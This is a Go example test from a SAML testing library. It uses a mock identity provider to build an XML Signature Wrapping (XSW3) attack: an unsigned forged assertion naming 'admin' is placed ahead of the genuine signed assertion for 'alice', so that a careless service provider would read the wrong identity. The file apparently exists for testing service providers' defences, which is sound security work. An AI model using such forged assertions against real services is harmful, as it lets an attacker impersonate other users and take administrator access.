package forge_test

import (
	"fmt"
	"log"

	"github.com/beevik/etree"

	"github.com/samljit/samljit/jit/jittest"
	"github.com/samljit/samljit/jit/jittest/forge"
)

// A response hook wraps the IdP's signed assertion (XSW3): an unsigned
// evil copy naming someone else comes first, where a careless service
// provider reads identity.
func ExampleWrap() {
	idp, err := jittest.NewServer(jittest.Options{})
	if err != nil {
		log.Fatal(err)
	}
	defer idp.Close()
	idp.AddUser(jittest.User{NameID: "alice"})
	idp.SetMutateResponse(func(resp *etree.Element) {
		err := forge.Wrap(resp, forge.XSW3, func(a *etree.Element) {
			a.FindElement("./Subject/NameID").SetText("admin")
		})
		if err != nil {
			log.Fatal(err)
		}
	})

	f, err := idp.Unsolicited("https://app.example/saml", "https://app.example/saml/acs", "alice", "")
	if err != nil {
		log.Fatal(err)
	}
	raw, err := f.XML()
	if err != nil {
		log.Fatal(err)
	}
	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(raw); err != nil {
		log.Fatal(err)
	}
	for _, a := range doc.FindElements("/Response/Assertion") {
		signed := a.FindElement("./Signature") != nil
		fmt.Println(a.FindElement("./Subject/NameID").Text(), "signed:", signed)
	}
	// Output:
	// admin signed: false
	// alice signed: true
}
